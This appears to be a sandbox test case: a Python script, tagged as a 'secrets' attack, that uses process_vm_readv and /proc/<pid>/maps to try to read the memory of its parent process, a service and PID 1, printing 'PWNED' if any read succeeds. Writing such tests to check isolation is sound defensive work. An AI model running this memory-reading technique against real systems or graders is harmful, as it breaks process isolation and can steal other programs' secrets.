# /// attack
# category = "secrets"
# kind = "stdio"
# success = "marker"
# expected = ["wrong_answer", "sandbox_violation"]
# summary = "Reads the memory of its parent and of the service with process_vm_readv."
# ///

import ctypes
import os


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


libc = ctypes.CDLL(None, use_errno=True)
libc.process_vm_readv.restype = ctypes.c_ssize_t
buffer = ctypes.create_string_buffer(64)
local = Iovec(ctypes.addressof(buffer), 64)
anchor = ctypes.create_string_buffer(b"same address in a forked parent" * 4)
addresses = [id(None), id(os), ctypes.addressof(anchor)]
for pid in ("{PARENT_PID}", os.getppid(), 1):
    try:
        with open(f"/proc/{pid}/maps") as file:
            addresses += [int(line.split("-")[0], 16) for line in file if " r" in line][:50]
    except OSError:
        pass
    for address in addresses:
        remote = Iovec(address, 64)
        count = libc.process_vm_readv(
            int(pid), ctypes.byref(local), 1, ctypes.byref(remote), 1, ctypes.c_ulong(0)
        )
        if count > 0:
            print("PWNED")
            raise SystemExit
print("blocked", ctypes.get_errno())
